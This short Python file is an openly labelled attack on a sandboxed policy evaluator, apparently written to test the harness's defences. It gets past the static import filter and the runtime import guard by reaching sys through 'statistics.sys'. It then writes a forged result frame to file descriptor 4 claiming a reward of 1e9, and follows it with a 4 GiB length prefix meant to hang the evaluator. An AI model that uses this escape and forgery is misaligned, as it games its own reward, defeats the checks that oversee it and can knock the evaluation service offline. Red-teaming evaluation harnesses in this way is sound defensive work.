"""ATTACK: write forged frames straight to the worker's result channel (fd 4): a reply that
claims action 1 for 64 episodes plus reward/return fields the evaluator should ignore, then
a frame whose length prefix claims 4 GiB (to make the evaluator allocate or wait forever)."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
json = _sys.modules["json"]
os = _sys.modules["os"]
struct = _sys.modules["struct"]

_n = [0]


def _frame(header: bytes, plen: int = 0) -> bytes:
    return struct.pack("!II", len(header), plen) + header


def policy(obs):
    _n[0] += 1
    if _n[0] == 1:
        fake = {"a": [1] * 64, "reward": 1e9, "returns": [500.0] * 64, "ok": True, "terminated": False}
        os.write(4, _frame(json.dumps(fake).encode()))
    elif _n[0] == 2:
        os.write(4, struct.pack("!II", 0xFFFFFFFF, 0xFFFFFFFF) + b"{")
    return 0
